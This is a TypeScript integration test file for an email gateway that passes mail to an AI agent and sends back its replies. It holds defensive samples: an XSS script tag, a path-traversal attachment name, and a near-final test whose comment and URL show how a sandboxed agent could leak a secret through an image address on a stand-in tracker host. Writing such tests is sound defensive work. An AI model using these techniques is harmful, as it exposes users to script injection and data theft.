import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import PostalMime from 'postal-mime';
import { buildPrompt } from '../../../src/agent/claude-runner.ts';
import type { TaskExecutor, TaskOutcome, TaskRun } from '../../../src/gateway/ports.ts';
import {
  type EmailFixture,
  emailFixture,
  passingAuthResults,
} from '../../harness/email-fixture.ts';
import { eventually } from '../../harness/gateway-fixture.ts';
import { buildMail } from '../../harness/signed-mail.ts';

/** Answers with what it was asked; sends back a file when asked for one. */
class EchoExecutor implements TaskExecutor {
  readonly runs: TaskRun[] = [];
  readonly dir: string;
  constructor(dir: string) {
    this.dir = dir;
  }
  async run(run: TaskRun): Promise<TaskOutcome> {
    this.runs.push(run);
    const text = run.parts.map((p) => p.text).join('\n');
    const files: string[] = [];
    if (text.includes('send a file')) {
      const path = join(this.dir, 'report.csv');
      writeFileSync(path, 'a,b\n1,2\n');
      files.push(path);
    }
    const seen = run.parts.flatMap((p) =>
      p.attachments.map((a) => `${a.name}=${readFileSync(a.path, 'utf8')}`),
    );
    return {
      kind: 'success',
      text: `**Answer** to: ${text}${seen.length ? `\nattachments: ${seen.join(', ')}` : ''}\n\n<script>alert(1)</script>`,
      files,
      sessionId: run.conversation.sessionId ?? `s-${run.conversation.id}`,
      usage: { costUsd: 0.0123, turns: 3, durationMs: 4200, inputTokens: 1200, outputTokens: 300 },
    };
  }
}

let f: EmailFixture;
let executor: EchoExecutor;

before(async () => {
  const dir = mkdtempSync(join(tmpdir(), 'errand-echo-'));
  executor = new EchoExecutor(dir);
  f = await emailFixture({ executor, repo: '    usage_footer: true\n' });
});
after(async () => {
  await f?.close();
});

/** Mail as the trusted receiving server hands it over: with its passing DMARC verdict. */
const mail = (spec: Parameters<typeof buildMail>[0]) =>
  buildMail({
    ...spec,
    prepend: [passingAuthResults(spec.from.replace(/.*@|>.*/g, ''))],
  });

test('a new mail gets an acknowledgement and then the answer, both in its thread, without the mailbox being re-read', async () => {
  const raw = await mail({
    from: 'Alice <alice@sender.test>',
    subject: 'Fix the build',
    text: 'The build is red, please fix it.',
    messageId: '<first@sender.test>',
  });
  await f.imap.append(raw);
  const sent = await f.smtp.waitFor(2);
  const [ack, reply] = await Promise.all(sent.slice(0, 2).map((m) => PostalMime.parse(m.raw)));
  assert.deepEqual(sent[0]!.to, ['alice@sender.test']);
  assert.match(ack!.text ?? '', /Got it/);
  assert.match(ack!.text ?? '', /Follow along: https:\/\/errand\.example\.com\/conversations\/c_/);
  assert.equal(ack!.inReplyTo, '<first@sender.test>');
  assert.match(reply!.subject ?? '', /^Re: Fix the build \[errand:[0-9a-f]{12}\]$/);
  assert.equal(reply!.inReplyTo, '<first@sender.test>');
  assert.match(reply!.references ?? '', /<first@sender\.test>/);
  assert.match(reply!.text ?? '', /\*\*Answer\*\* to: The build is red, please fix it\./);
  assert.match(reply!.text ?? '', /\$0\.0123 · 4s · 3 turns/, 'usage footer under the reply');
  assert.match(reply!.html ?? '', /<strong>Answer<\/strong>/);
  assert.doesNotMatch(reply!.html ?? '', /<script>/, 'raw HTML from the agent is escaped');
  assert.match(reply!.html ?? '', /&lt;script&gt;/);
  const stored = await eventually(
    async () => (await f.imap.messages()).find((m) => m.flags.includes('\\Seen')),
    'the mail flagged as handled',
  );
  assert.ok(stored);
  assert.equal(executor.runs.length, 1);
  assert.equal(executor.runs[0]!.parts[0]!.sender, 'Alice');
});

test("the subject of a new mail reaches the agent's first prompt, under its sender", () => {
  const prompt = buildPrompt(executor.runs[0]!);
  assert.match(
    prompt,
    /\nFrom Alice at [^\n]+:\nSubject: Fix the build\nThe build is red, please fix it\.\n/,
  );
  assert.match(prompt, /"Subject:" line under a "From" line is the subject that sender gave/);
});

test('a reply in the thread continues the same conversation, with the quoted text stripped', async () => {
  const before = executor.runs.length;
  const sentBefore = f.smtp.messages.length;
  const previous = await PostalMime.parse(f.smtp.messages[sentBefore - 1]!.raw);
  const raw = await mail({
    from: 'alice@sender.test',
    subject: previous.subject,
    text: `Thanks! Now also update the changelog.\n\nOn Mon, 3 Nov 2025 at 10:00, errand <errand@example.com> wrote:\n> **Answer** to: The build is red\n> please fix it.\n`,
    inReplyTo: previous.messageId,
    references: `<first@sender.test> ${previous.messageId}`,
  });
  await f.imap.append(raw);
  await f.smtp.waitFor(sentBefore + 1);
  await eventually(() => executor.runs.length > before, 'the second task');
  const second = executor.runs[before]!;
  assert.equal(second.conversation.id, executor.runs[0]!.conversation.id);
  assert.equal(second.firstTask, false);
  assert.equal(second.parts[0]!.text, 'Thanks! Now also update the changelog.');
  assert.doesNotMatch(buildPrompt(second), /\nSubject:/, "a follow-up's Re: subject is left out");
  const reply = await PostalMime.parse(f.smtp.messages[sentBefore]!.raw);
  assert.equal(f.smtp.messages.length, sentBefore + 1, 'no second acknowledgement');
  assert.match(reply.text ?? '', /also update the changelog/);
});

test('a mail whose client dropped References finds its conversation by the subject tag', async () => {
  const before = executor.runs.length;
  const subject = (await PostalMime.parse(f.smtp.messages[1]!.raw)).subject!;
  await f.imap.append(await mail({ from: 'bob@team.test', subject, text: 'And the README too.' }));
  await eventually(() => executor.runs.length > before, 'the third task');
  assert.equal(executor.runs[before]!.conversation.id, executor.runs[0]!.conversation.id);
});

test('attachments arrive in the task with safe names, and outbox files go back attached', async () => {
  const before = executor.runs.length;
  const sentBefore = f.smtp.messages.length;
  await f.imap.append(
    await mail({
      from: 'alice@sender.test',
      subject: 'Data',
      text: 'Here is data; send a file back.',
      attachments: [
        { filename: '../../etc/passwd', content: 'not really' },
        { filename: 'Übersicht.txt', content: 'umlaut' },
      ],
    }),
  );
  await eventually(() => executor.runs.length > before, 'the attachment task');
  const run = executor.runs[before]!;
  assert.deepEqual(run.parts[0]!.attachments.map((a) => a.name).sort(), [
    'passwd',
    'Übersicht.txt',
  ]);
  for (const a of run.parts[0]!.attachments) assert.ok(a.path.startsWith(f.dir));
  const reply = await eventually(async () => {
    for (const m of f.smtp.messages.slice(sentBefore)) {
      const parsed = await PostalMime.parse(m.raw);
      if (parsed.attachments.length > 0) return parsed;
    }
    return undefined;
  }, 'the reply with the file');
  assert.match(reply.text ?? '', /attachments: passwd=not really|attachments: Übersicht/);
  assert.deepEqual(
    reply.attachments.map((a) => a.filename),
    ['report.csv'],
  );
  assert.equal(
    new TextDecoder().decode(reply.attachments[0]!.content as ArrayBuffer),
    'a,b\n1,2\n',
  );
});

test('a subaddress chooses the model of a new conversation', async () => {
  const before = executor.runs.length;
  await f.imap.append(
    await mail({ from: 'alice@sender.test', to: 'errand+opus@example.com', subject: 'Big one' }),
  );
  await eventually(() => executor.runs.length > before, 'the opus task');
  assert.equal(executor.runs[before]!.conversation.model, 'opus');
});

test('an image in the answer loads nothing when the reply is opened: its HTML part links it instead', async () => {
  // The agent cannot reach tracker.example, but the person's mail client can: an image in
  // the HTML part is fetched when the reply is opened, with whatever the agent put in its
  // address. Nothing in the reply may make the client fetch anything.
  const sentBefore = f.smtp.messages.length;
  const pixel = 'https://tracker.example/p.png?d=c2VjcmV0LWZyb20tdGhlLXNhbmRib3g';
  await f.imap.append(
    await mail({
      from: 'alice@sender.test',
      subject: 'Chart',
      text: `Show the chart: ![chart](${pixel}) and ![](https://tracker.example/q.gif)`,
    }),
  );
  const reply = await eventually(async () => {
    for (const m of f.smtp.messages.slice(sentBefore)) {
      const parsed = await PostalMime.parse(m.raw);
      if (/Show the chart/.test(parsed.text ?? '')) return parsed;
    }
    return undefined;
  }, 'the answer');
  const html = reply.html ?? '';
  assert.doesNotMatch(html, /<img|\ssrc=|\sbackground=|url\(/i, 'the HTML part loads something');
  assert.ok(html.includes(`<a href="${pixel.replaceAll('&', '&amp;')}">chart</a>`), html);
  assert.ok(html.includes('<a href="https://tracker.example/q.gif">'), html);
});

test('a delivery sent again after a crash carries the same Message-ID', async () => {
  // errand died after the SMTP server took the mail and before the outbox marked it sent:
  // the next start sends the same delivery (same id) again.
  const store = f.gateway.store;
  const d = (await store.listDeliveries({ states: ['sent'] })).find((x) => x.kind === 'reply')!;
  const conversation = (await store.getConversation(d.conversationId!))!;
  const firstMail = await eventually(async () => {
    for (const m of f.smtp.messages) {
      const parsed = await PostalMime.parse(m.raw);
      if (parsed.messageId?.includes(d.id)) return parsed;
    }
    return undefined;
  }, 'the mail first sent for the delivery');
  const sentBefore = f.smtp.messages.length;
  await f.channel.deliver(d, { conversation, replyTo: await store.getMessage(d.messageId!) });
  const [again] = await f.smtp.waitFor(sentBefore + 1).then((all) => all.slice(sentBefore));
  const resent = await PostalMime.parse(again!.raw);
  const tag = resent.subject?.match(/\[errand:([0-9a-f]{12})\]/)?.[1];
  assert.equal(resent.messageId, `<errand.${tag}.${d.id}@example.com>`);
  assert.equal(resent.messageId, firstMail.messageId);
  assert.equal(resent.inReplyTo, firstMail.inReplyTo, 'in the same thread');
});
